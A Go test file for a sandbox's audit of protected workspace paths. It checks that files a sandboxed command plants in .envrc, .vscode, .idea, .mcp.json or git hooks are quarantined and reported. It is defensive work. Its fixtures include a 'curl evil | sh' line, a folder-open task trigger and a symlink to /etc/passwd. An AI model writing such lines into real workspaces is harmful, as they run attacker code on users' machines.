//go:build linux

package audit

import (
	"os"
	"path/filepath"
	"sort"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/dsh-sandbox/dsh-sandbox/sandbox/internal/facts"
	"github.com/dsh-sandbox/dsh-sandbox/sandbox/modes"
)

// protectedFixture is a workspace with a few protected paths, some existing.
func protectedFixture(t *testing.T) (modes.Policy, string) {
	t.Helper()
	ws, err := filepath.EvalSymlinks(t.TempDir())
	require.NoError(t, err)
	for _, d := range []string{".vscode", ".claude/commands", "src", "sub"} {
		require.NoError(t, os.MkdirAll(filepath.Join(ws, d), 0o755))
	}
	for f, c := range map[string]string{".vscode/settings.json": "{}", ".claude/commands/a.md": "a", ".bashrc": "PS1=x", "src/a.go": "package a"} {
		require.NoError(t, os.WriteFile(filepath.Join(ws, f), []byte(c), 0o644))
	}
	p, err := modes.Derive(modes.Options{Mode: modes.WorkspaceWrite, Workspace: ws, Protect: []string{"sub/deep/x"}})
	require.NoError(t, err)
	return p, ws
}

func denied(log *facts.Log) []string {
	var out []string
	for _, d := range log.List() {
		out = append(out, d.Op+" "+d.Path)
	}
	sort.Strings(out)
	return out
}

// TestProtectedAudit: after the run, what is new or changed at or under a
// protected path goes aside and is reported, shallowest first (a new
// directory whole); the rest of the workspace, unchanged protected entries
// and removals are left alone. What the kernel held is the host's own.
func TestProtectedAudit(t *testing.T) {
	for _, held := range []bool{false, true} {
		t.Run(map[bool]string{false: "nothing held", true: "kernel held the existing ones"}[held], func(t *testing.T) {
			p, ws := protectedFixture(t)
			audits, err := Start(p, nil, nil)
			require.NoError(t, err)
			w := func(rel, c string) {
				require.NoError(t, os.MkdirAll(filepath.Dir(filepath.Join(ws, rel)), 0o755))
				require.NoError(t, os.WriteFile(filepath.Join(ws, rel), []byte(c), 0o644))
			}
			w(".envrc", "curl evil | sh")                     // new, missing at the start
			w(".idea/workspace.xml", "<x/>")                  // a new directory
			w(".vscode/tasks.json", `{"runOn":"folderOpen"}`) // new in an existing one
			w(".vscode/settings.json", `{"x":1}`)             // changed
			require.NoError(t, os.Remove(filepath.Join(ws, ".claude/commands/a.md")))
			w("src/b.go", "package a") // not protected
			w("sub/deep/x", "x")       // a --protect path that did not exist
			require.NoError(t, os.Symlink("/etc/passwd", filepath.Join(ws, ".mcp.json")))

			log := facts.NewLog()
			Finish(audits, log, held)
			want := []string{
				"protected-path " + filepath.Join(ws, ".envrc"),
				"protected-path " + filepath.Join(ws, ".idea"),
				"protected-path " + filepath.Join(ws, ".mcp.json"),
				"protected-path " + filepath.Join(ws, "sub/deep/x"),
			}
			if !held {
				want = append(want, "protected-path "+filepath.Join(ws, ".vscode/settings.json"), "protected-path "+filepath.Join(ws, ".vscode/tasks.json"))
			}
			sort.Strings(want)
			assert.Equal(t, want, denied(log))
			for _, rel := range []string{".envrc", ".idea", ".mcp.json", "sub/deep/x"} {
				_, err := os.Lstat(filepath.Join(ws, rel))
				assert.ErrorIs(t, err, os.ErrNotExist, rel)
				_, err = os.Lstat(filepath.Join(ws, rel+".dsh-quarantined"))
				assert.NoError(t, err, "%s is set aside, not lost", rel)
			}
			b, err := os.ReadFile(filepath.Join(ws, ".idea.dsh-quarantined/workspace.xml"))
			require.NoError(t, err)
			assert.Equal(t, "<x/>", string(b))
			_, err = os.Stat(filepath.Join(ws, ".vscode/tasks.json"))
			assert.Equal(t, held, err == nil, "tasks.json kept only when the kernel held .vscode")
			assert.FileExists(t, filepath.Join(ws, "src/b.go"))
			assert.FileExists(t, filepath.Join(ws, ".bashrc"))
			assert.NoDirExists(t, filepath.Join(ws, ".claude/commands.dsh-quarantined"))
		})
	}
}

// TestProtectedAuditWay: a directory on the way to a protected path that is
// replaced by a symlink (so that the path is found elsewhere) goes aside.
func TestProtectedAuditWay(t *testing.T) {
	p, ws := protectedFixture(t)
	audits, err := Start(p, nil, nil)
	require.NoError(t, err)
	elsewhere := filepath.Join(ws, "src/elsewhere")
	require.NoError(t, os.MkdirAll(filepath.Join(elsewhere, "deep"), 0o755))
	require.NoError(t, os.WriteFile(filepath.Join(elsewhere, "deep/x"), []byte("x"), 0o644))
	require.NoError(t, os.RemoveAll(filepath.Join(ws, "sub")))
	require.NoError(t, os.Symlink("src/elsewhere", filepath.Join(ws, "sub")))
	log := facts.NewLog()
	Finish(audits, log, true)
	assert.Equal(t, []string{"protected-path " + filepath.Join(ws, "sub")}, denied(log))
	_, err = os.Lstat(filepath.Join(ws, "sub"))
	assert.ErrorIs(t, err, os.ErrNotExist)
}

// TestProtectedAuditSkip: a protected path the sandbox writes itself (an
// executor's spill directory) is not audited.
func TestProtectedAuditSkip(t *testing.T) {
	p, ws := protectedFixture(t)
	audits, err := Start(p, []string{filepath.Join(ws, ".envrc")}, nil)
	require.NoError(t, err)
	require.NoError(t, os.WriteFile(filepath.Join(ws, ".envrc"), []byte("x"), 0o644))
	log := facts.NewLog()
	Finish(audits, log, false)
	assert.Empty(t, denied(log))
	assert.FileExists(t, filepath.Join(ws, ".envrc"))
}

// TestProtectedAuditLeavesGitToGit: in a new repository, git's control
// entries are judged by git's rules (a sample hook and a safe config stay),
// not as protected entries.
func TestProtectedAuditLeavesGitToGit(t *testing.T) {
	p, ws := protectedFixture(t)
	audits, err := Start(p, nil, nil)
	require.NoError(t, err)
	for _, d := range []string{".git/hooks", ".git/objects", ".git/refs"} {
		require.NoError(t, os.MkdirAll(filepath.Join(ws, d), 0o755))
	}
	require.NoError(t, os.WriteFile(filepath.Join(ws, ".git/HEAD"), []byte("ref: refs/heads/main\n"), 0o644))
	require.NoError(t, os.WriteFile(filepath.Join(ws, ".git/config"), []byte("[core]\n\tbare = false\n"), 0o644))
	require.NoError(t, os.WriteFile(filepath.Join(ws, ".git/hooks/pre-commit.sample"), []byte("x"), 0o755))
	require.NoError(t, os.WriteFile(filepath.Join(ws, ".git/hooks/pre-commit"), []byte("x"), 0o755))
	log := facts.NewLog()
	Finish(audits, log, true)
	assert.Equal(t, []string{"git-control " + filepath.Join(ws, ".git/hooks/pre-commit")}, denied(log))
	assert.FileExists(t, filepath.Join(ws, ".git/config"))
	assert.FileExists(t, filepath.Join(ws, ".git/hooks/pre-commit.sample"))
}

// TestProtectedAuditLeavesGitControlToGit: a repository's protected control
// files (.git/config, .git/hooks) changed when the kernel did not hold them
// are judged by git's rules only: a safe config stays, a live hook goes.
func TestProtectedAuditLeavesGitControlToGit(t *testing.T) {
	ws, err := filepath.EvalSymlinks(t.TempDir())
	require.NoError(t, err)
	for _, d := range []string{".git/hooks", ".git/objects", ".git/refs"} {
		require.NoError(t, os.MkdirAll(filepath.Join(ws, d), 0o755))
	}
	require.NoError(t, os.WriteFile(filepath.Join(ws, ".git/HEAD"), []byte("ref: refs/heads/main\n"), 0o644))
	require.NoError(t, os.WriteFile(filepath.Join(ws, ".git/config"), []byte("[core]\n"), 0o644))
	p, err := modes.Derive(modes.Options{Mode: modes.WorkspaceWrite, Workspace: ws})
	require.NoError(t, err)
	require.Contains(t, p.Protected, filepath.Join(ws, ".git/config"))
	audits, err := Start(p, nil, nil)
	require.NoError(t, err)
	require.NoError(t, os.WriteFile(filepath.Join(ws, ".git/config"), []byte("[core]\n\tbare = false\n[user]\n\tname = x\n"), 0o644))
	require.NoError(t, os.WriteFile(filepath.Join(ws, ".git/hooks/post-checkout"), []byte("x"), 0o755))
	log := facts.NewLog()
	Finish(audits, log, false)
	assert.Equal(t, []string{"git-control " + filepath.Join(ws, ".git/hooks/post-checkout")}, denied(log))
	assert.FileExists(t, filepath.Join(ws, ".git/config"))
}

// TestProtectedAuditOver: a transaction's upper layer is audited in place of
// the workspace. What the command put at a protected path there is removed
// (the path reverts to the workspace's), reported under the workspace; the
// entries the upper layer held at the start, and the rest, stay.
func TestProtectedAuditOver(t *testing.T) {
	p, ws := protectedFixture(t)
	upper := t.TempDir()
	w := func(rel, c string) {
		require.NoError(t, os.MkdirAll(filepath.Dir(filepath.Join(upper, rel)), 0o755))
		require.NoError(t, os.WriteFile(filepath.Join(upper, rel), []byte(c), 0o644))
	}
	w("src/earlier.go", "package a") // an earlier command's change
	audits, err := StartOver(p, nil, ws, upper, nil)
	require.NoError(t, err)
	w(".envrc", "curl evil | sh")
	w(".vscode/tasks.json", `{"runOn":"folderOpen"}`)
	w("src/b.go", "package a")
	log := facts.NewLog()
	Finish(audits, log, true) // (held: never in an upper layer)
	// (.vscode is the workspace's, which the upper layer's copy shows
	// through: judged by its entries.)
	assert.Equal(t, []string{"protected-path " + filepath.Join(ws, ".envrc"), "protected-path " + filepath.Join(ws, ".vscode/tasks.json")}, denied(log))
	for _, gone := range []string{".envrc", ".vscode/tasks.json", ".envrc.dsh-quarantined"} {
		_, err := os.Lstat(filepath.Join(upper, gone))
		assert.ErrorIs(t, err, os.ErrNotExist, gone)
	}
	for _, kept := range []string{"src/earlier.go", "src/b.go"} {
		assert.FileExists(t, filepath.Join(upper, kept))
	}
	_, err = os.Lstat(filepath.Join(ws, ".envrc"))
	assert.ErrorIs(t, err, os.ErrNotExist, "the workspace itself is not touched")
	assert.FileExists(t, filepath.Join(ws, ".vscode/settings.json"))
}

// TestProtectedChangedUnreadable: the protected paths' own walk never skips
// a directory it cannot read that the command could have written in (the
// git walk, which reads every directory, finds it first in Finish; this
// one must not rely on that): it is an entry to neutralize, whole.
func TestProtectedChangedUnreadable(t *testing.T) {
	if !asUser(t, nil) {
		return
	}
	for _, kind := range []protKind{protNamed, protHooks} {
		ws := tempDir(t)
		write(t, ws, "d/settings.json", "{}")
		v, err := openView(ws, "")
		require.NoError(t, err)
		pp := &protectedPath{rel: "d", kind: kind}
		pp.record(v)
		write(t, ws, "d/tasks.json", "{}")
		require.NoError(t, os.Chmod(filepath.Join(ws, "d"), 0o311))
		assert.Equal(t, []protChange{{rel: "d", unreadable: true}}, pp.changed(v, func(string) bool { return false }))
		v.close()
	}
}
